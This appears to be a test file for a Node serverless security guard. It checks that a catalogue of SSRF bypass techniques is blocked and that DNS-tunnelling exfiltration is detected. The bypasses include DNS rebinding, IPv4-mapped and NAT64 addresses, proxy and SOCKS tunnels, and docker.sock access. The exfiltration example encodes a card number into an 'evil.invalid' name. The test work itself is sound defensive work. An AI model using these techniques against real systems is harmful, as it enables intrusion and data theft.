import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { createServer as createHttp2 } from 'node:http2';
import { type AddressInfo, connect as connectTcp, createServer as createTcp } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { builtPackage, tempFolder } from '../testing/built.ts';
import { nodeBinaries } from '../testing/nodes.ts';
import { query, runScenario } from '../testing/scenario.ts';

const { folder: dist } = builtPackage();
const folder = tempFolder();

/** What reached a server of ours, in order. */
let hits: string[];
let http: Server;
let proxy: Server;
let udp: Socket;
const local = join(folder, 'app.sock');
const onRequest = (request: IncomingMessage, response: ServerResponse): void => {
  hits.push(`http ${request.url}`);
  response.end('secret');
};
const unix = createServer(onRequest);
const http2 = createHttp2((request, response) => {
  hits.push(`http2 ${request.url}`);
  response.end('secret');
});
/** Says hello to SOCKS 5 and notes what it is asked for. */
const socks = createTcp((socket) => {
  socket
    .on('error', () => undefined)
    .on('data', (data) => {
      if (data.length === 3) socket.write(Buffer.from([5, 0]));
      else hits.push(`socks ${data.length}`);
    });
});
const p = { http: 0, proxy: 0, udp: 0, dns: 0, http2: 0, socks: 0, local };

/** Answers every question with 127.0.0.1; enough of RFC 1035 for that. */
const dns = createSocket('udp4').on('message', (message, from) => {
  const answer = Buffer.from(message);
  answer[2] = 0x81;
  answer[3] = 0x80;
  const isA = message.readUInt16BE(message.indexOf(0, 12) + 1) === 1;
  answer.writeUInt16BE(isA ? 1 : 0, 6);
  const record = Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 9, 0, 4, 127, 0, 0, 1]);
  const end = message.indexOf(0, 12) + 5;
  answer.writeUInt16BE(0, 10);
  dns.send(Buffer.concat([answer.subarray(0, end), ...(isA ? [record] : [])]), from.port, from.address);
});

beforeAll(async () => {
  http = createServer(onRequest);
  proxy = createServer((request, response) => {
    hits.push(`proxy ${request.url}`);
    response.end('secret');
  }).on('connect', (request, socket) => {
    hits.push(`connect ${request.url}`);
    const [host = '', port] = String(request.url).split(':');
    const inner = connectTcp(Number(port), host, () => {
      socket.write('HTTP/1.1 200 OK\r\n\r\n');
      inner.pipe(socket).pipe(inner);
    }).on('error', () => socket.destroy());
    socket.on('error', () => inner.destroy());
  });
  udp = createSocket('udp4').on('message', (message) => hits.push(`udp ${message}`));
  for (const server of [http, proxy, http2, socks]) {
    server.listen(0, '0.0.0.0');
    await once(server, 'listening');
  }
  unix.listen(local);
  for (const socket of [udp, dns]) {
    socket.bind(0, '127.0.0.1');
    await once(socket, 'listening');
  }
  const port = (server: { address(): unknown }): number => (server.address() as AddressInfo).port;
  Object.assign(p, {
    http: port(http),
    proxy: port(proxy),
    udp: port(udp),
    dns: port(dns),
    http2: port(http2),
    socks: port(socks),
  });
});
afterAll(() => {
  for (const server of [http, proxy, unix]) server.closeAllConnections();
  for (const server of [http, proxy, http2, socks, unix, udp, dns]) server.close();
});
beforeEach(() => {
  hits = [];
});

/** How a request leads where it should not: what the event says, what the code does with it as `u` (a URL or `v`). */
const LED: Record<string, { says: () => string; does: string }> = {
  'dgram.send': {
    says: () => `udp://127.0.0.1:${p.udp}`,
    does: `new Promise((ok, no) => { const s = dgram.createSocket('udp4'); s.send('x', u.port, u.hostname, (e) => { s.close(); e ? no(e) : ok(); }); })`,
  },
  'dgram.connect': {
    says: () => `udp://127.0.0.1:${p.udp}`,
    does: `new Promise((ok, no) => { const s = dgram.createSocket('udp4'); s.connect(Number(u.port), u.hostname, (e) => { if (e) { s.close(); return no(e); } s.send('x', () => { s.close(); ok(); }); }); })`,
  },
  'dgram.send without a callback': {
    says: () => `udp://127.0.0.1:${p.udp}`,
    does: `new Promise((ok, no) => { const s = dgram.createSocket('udp4'); s.on('error', (e) => { s.close(); no(e); }); s.send('x', u.port, u.hostname); setTimeout(() => { try { s.close(); } catch {} ok(); }, 200); })`,
  },
  'a name of dgram': {
    says: () => `udp://inner.example:${p.udp}`,
    does: `new Promise((ok, no) => { const s = dgram.createSocket({ type: 'udp4', lookup: (h, o, done) => done(null, '127.0.0.1', 4) }); s.send('x', u.port, u.hostname, (e) => { s.close(); e ? no(e) : ok(); }); })`,
  },
  'a name that dns.resolve4 resolved before': {
    says: () => `http://inner.example:${p.http}/`,
    does: `new Promise((ok, no) => { dns.setServers(['127.0.0.1:' + p.dns]); dns.resolve4(u.hostname, (e, [ip]) => get('http://' + ip + ':' + u.port).then(ok, no)); })`,
  },
  'and a resolver of dns/promises': {
    says: () => `http://inner.example:${p.http}/`,
    does: `(async () => { const r = new dns.promises.Resolver(); r.setServers(['127.0.0.1:' + p.dns]); const [ip] = await r.resolve4(u.hostname); return get('http://' + ip + ':' + u.port); })()`,
  },
  'a lookup of lists, the private address second': {
    says: () => `http://inner.example:${p.http}/`,
    does: `get(u.href, { lookup: (h, o, done) => done(null, o.all ? [{ address: '192.0.2.1', family: 4 }, { address: '127.0.0.1', family: 4 }] : '127.0.0.1', 4) })`,
  },
  'a lookup that answers with IPv4 in IPv6': {
    says: () => `http://inner.example:${p.http}/`,
    does: `get(u.href, { lookup: (h, o, done) => (o.all ? done(null, [{ address: '::ffff:127.0.0.1', family: 6 }]) : done(null, '::ffff:127.0.0.1', 6)) })`,
  },
  'a lookup that answers with NAT64': {
    says: () => `http://inner.example:${p.http}/`,
    does: `get(u.href, { lookup: (h, o, done) => (o.all ? done(null, [{ address: '64:ff9b::7f00:1', family: 6 }]) : done(null, '64:ff9b::7f00:1', 6)) })`,
  },
  'a connection that an agent kept': {
    says: () => `http://127.0.0.1:${p.http}/admin`,
    does: 'get(u.href, { agent })',
  },
  'a connection that fetch kept': {
    says: () => `http://127.0.0.1:${p.http}/admin`,
    does: 'fetch(u.href).then((r) => r.text())',
  },
  'a proxy, by the whole URL': {
    says: () => `http://10.1.2.3:8080/admin`,
    does: `get({ host: '127.0.0.1', port: p.proxy, path: u.href })`,
  },
  'a proxy’s tunnel': {
    says: () => `http://127.0.0.1:${p.http}/admin`,
    does: `new Promise((ok, no) => { const r = http.request({ host: '127.0.0.1', port: p.proxy, method: 'CONNECT', path: u.host }); r.on('connect', (a, s) => { s.destroy(); ok(); }); r.on('error', no).end(); })`,
  },
  'SOCKS 5': {
    says: () => `http://10.1.2.3:8080/admin`,
    does: `new Promise((ok, no) => { const s = net.connect(p.socks, '127.0.0.1', () => s.write(Buffer.from([5, 1, 0]))); s.on('error', no); s.on('data', () => s.write(Buffer.from([5, 1, 0, 1, 10, 1, 2, 3, 31, 144]), (e) => { if (!e) setTimeout(() => { s.destroy(); ok(); }, 50); })); })`,
  },
  http2: {
    says: () => `http://127.0.0.1:${p.http2}/admin`,
    does: `new Promise((ok, no) => { const c = http2.connect(u.origin); c.on('error', no); const r = c.request({ ':path': u.pathname }); r.on('error', no); r.on('end', () => { c.close(); ok(); }); r.resume(); r.end(); })`,
  },
  'a session of HTTP/2 that is open': {
    says: () => `http://127.0.0.1:${p.http2}/admin`,
    does: `ask(session, { ':path': u.pathname })`,
  },
  'a tunnel through one': {
    says: () => `http://127.0.0.1:${p.http}/admin`,
    does: `ask(session, { ':method': 'CONNECT', ':authority': u.host })`,
  },
  'a local socket': {
    says: () => p.local,
    does: `get({ socketPath: v, path: '/local' })`,
  },
  'tls over a socket of the caller’s own': {
    says: () => `https://127.0.0.1:${p.http}/admin`,
    does: `new Promise((ok, no) => { const s = net.connect(u.port, u.hostname); const t = tls.connect({ socket: s, rejectUnauthorized: false }, ok); s.on('error', no); t.on('error', (e) => (e.code === 'BULKHEAD_BLOCKED' ? no(e) : ok())); })`,
  },
};

const CODE = `
const http = require('http'), net = require('net'), dgram = require('dgram'), dns = require('dns'), http2 = require('http2'), tls = require('tls');
const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
const get = (url, options = {}) => new Promise((ok, no) => http.get(...(typeof url === 'string' ? [url, options] : [url]), (r) => { let t = ''; r.on('data', (d) => (t += d)); r.on('end', () => ok(t)); }).on('error', no));
let session;
const ask = (on, headers) => new Promise((ok, no) => { const r = on.request(headers); r.on('error', no); r.on('end', ok); r.resume(); r.end(); });
const ways = [${Object.values(LED)
  .map(({ does }) => `(v, u, p) => ${does}`)
  .join(',\n')}];
exports.handler = async ({ queryStringParameters: { v, way, ports } }) => {
  const p = JSON.parse(ports);
  if (way === 'own') {
    await get('http://127.0.0.1:' + p.http + '/own', { agent });
    session = http2.connect('http://127.0.0.1:' + p.http2);
    await ask(session, { ':path': '/own' });
    return (await fetch('http://127.0.0.1:' + p.http + '/own')).text();
  }
  const late = new Promise((ok) => setTimeout(ok, 4000, 'late').unref());
  return Promise.race([late, ways[way](v, URL.canParse(v) ? new URL(v) : undefined, p).then(() => 'reached', (e) => {
    while (e && e.code === undefined && e.cause) e = e.cause;
    return e.code ?? e.message;
  })]);
};`;

describe.each(nodeBinaries())('$name', ({ path: node }) => {
  const run = (code: string, events: unknown[], more = {}) =>
    runScenario({ node, dist, folder, form: 'cjs', code, events, ...more });

  it('no way leads where the event says; all do without us', async () => {
    const names = Object.keys(LED);
    const ports = JSON.stringify(p).replaceAll('127.0.0.1', '');
    // The developer's own call comes first, and leaves its connections open.
    const events = [
      query({ way: 'own', ports }),
      ...Object.values(LED).map(({ says }, way) =>
        query({ v: says(), way: String(way), ports: ports.replace(p.local, '') }),
      ),
    ];
    const outcome = await run(CODE, events);
    expect(outcome.answers[0]?.result).toBe('secret');
    const results = outcome.answers.slice(1).map((answer) => answer.result);
    expect(Object.fromEntries(names.map((name, i) => [name, results[i]])), outcome.stderr).toEqual(
      Object.fromEntries(names.map((name) => [name, 'BULKHEAD_BLOCKED'])),
    );
    expect(hits).toEqual(['http /own', 'http2 /own', 'http /own']);
    expect(outcome.exitCode).toBe(0);
    expect(outcome.faults.filter((fault) => fault.where.startsWith('hook/'))).toEqual([]);

    const off = await run(CODE, events, { env: { BULKHEAD_MODE: 'off' } });
    const passed = off.answers.slice(1).map((answer, i) => `${names[i]}: ${answer.result}`);
    // 64:ff9b::/96 and ::ffff:0:0/96 need a network.
    expect(passed.filter((line) => !line.endsWith('reached') && !/NAT64|IPv6/.test(line))).toEqual([]);
  }, 30_000);

  it('names: outside of the list none is looked up, a tunnel is told, servers are judged', async () => {
    const code = `
      const dns = require('dns');
      dns.setServers([process.env.SERVER]);
      exports.handler = async ({ step, name, list }) => {
        if (step === 'servers') { dns.setServers(list); return dns.getServers(); }
        if (step === 'many') {
          for (let i = 0; i < 30; i++) {
            const label = require('crypto').createHash('md5').update(String(i)).digest('hex');
            await new Promise((ok) => dns.resolveTxt(label + '.t.tunnel.invalid', ok));
          }
          return 'done';
        }
        return new Promise((ok) => dns.resolve4(name, (e, list) => ok(e ? e.code : list)));
      };`;
    const servers = [`127.0.0.1:${p.dns}`];
    const env = { SERVER: servers[0]! };
    const options = `{ policy: { hooks: { outbound: { action: 'block', allow: ['*.example.com', 'aws:s3', '127.0.0.1'] } } } }`;
    const listed = await run(
      code,
      [
        { step: 'servers', list: servers },
        { name: 'api.example.com' },
        { name: '_http._tcp.api.example.com' },
        { name: 'photos.s3.eu-west-1.amazonaws.com' },
        { name: 'data.evil.invalid' },
        { step: 'servers', list: ['192.0.2.53'] },
      ],
      { options, env },
    );
    expect(listed.answers.map((answer) => answer.result ?? answer.error?.code)).toEqual([
      servers,
      ['127.0.0.1'],
      ['127.0.0.1'],
      ['127.0.0.1'],
      'BULKHEAD_BLOCKED',
      'BULKHEAD_BLOCKED',
    ]);

    const spelt = Buffer.from('4111 1111 1111 1111').toString('hex');
    const spelling = { name: `${spelt}.evil.invalid`, card: '4111 1111 1111 1111' };
    const open = await run(
      code,
      [{ step: 'many' }, spelling, { name: 'd111111abcdef8.cloudfront.net' }, { step: 'servers', list: servers }],
      { env },
    );
    expect(open.answers[0]?.result).toBe('done');
    expect(open.answers[1]?.result).toEqual(['127.0.0.1']);
    expect(open.attacks.map(({ action, message }) => [action, message])).toEqual([
      ['observed', expect.stringMatching(/^Many long random names/)],
      ['observed', expect.stringMatching(/^Many long random names/)],
      ['observed', expect.stringMatching(/^A name that spells event data/)],
      // Not even a name server is the event's to choose.
      ['blocked', 'Event data leads to a loopback address.'],
    ]);
    const strict = await run(code, [spelling], {
      options: `{ policy: { hooks: { outbound: { action: 'block', from: 'medium' } } } }`,
      env,
    });
    expect(strict.answers[0]?.result).toBe('BULKHEAD_BLOCKED');
  }, 30_000);

  it('an allow-list is for datagrams too; the X-Ray daemon needs no entry', async () => {
    const code = `const dgram = require('dgram'); exports.handler = ({ port }) => new Promise((ok) => { const s = dgram.createSocket('udp4'); s.send('x', port, '127.0.0.1', (e) => { s.close(); ok(e ? e.code : 'sent'); }); });`;
    const options = `{ policy: { hooks: { outbound: { action: 'block', allow: ['api.example.com'] } } } }`;
    const env = { AWS_XRAY_DAEMON_ADDRESS: `127.0.0.1:${p.udp}` };
    const outcome = await run(code, [{ port: p.udp }, { port: p.dns }], { options, env });
    expect(outcome.answers.map((answer) => answer.result)).toEqual(['sent', 'BULKHEAD_BLOCKED']);
    expect(outcome.attacks).toMatchObject([{ class: 'egress', sink: { operation: 'dgram.send' } }]);
  });

  it('a control socket is never needed, and other local ones are not the event’s', async () => {
    const code = `const net = require('net'); exports.handler = ({ path }) => new Promise((ok) => net.connect(path, () => ok('open')).on('error', (e) => ok(e.code)));`;
    const outcome = await run(code, [{ path: '/run/../run/docker.sock' }, { path: '/tmp/none.sock' }]);
    expect(outcome.answers[0]?.result).toBe('BULKHEAD_BLOCKED');
    const own = await run(
      code.replace('{ path }', '{}').replace('net.connect(path', `net.connect(${JSON.stringify(local)}`),
      [{}],
    );
    expect(own.answers[0]?.result).toBe('open');
    expect(own.attacks).toEqual([]);
  });
});
